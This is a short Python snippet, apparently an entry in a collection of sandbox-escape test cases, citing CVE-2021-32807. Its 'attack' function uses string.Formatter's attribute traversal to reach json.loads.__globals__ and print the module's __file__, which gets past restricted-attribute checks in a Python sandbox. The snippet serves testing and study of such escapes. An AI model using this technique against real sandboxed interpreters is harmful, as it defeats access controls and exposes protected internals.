# `string.Formatter` walks attributes by itself, and gives a text of what it found.
# after: interpreter
# source: CVE-2021-32807 (GHSA-qcx9-j53g-ccgf)
import json
import string
def attack(**_):
    return {"text": string.Formatter().format("{0.__globals__[__file__]}", json.loads)}
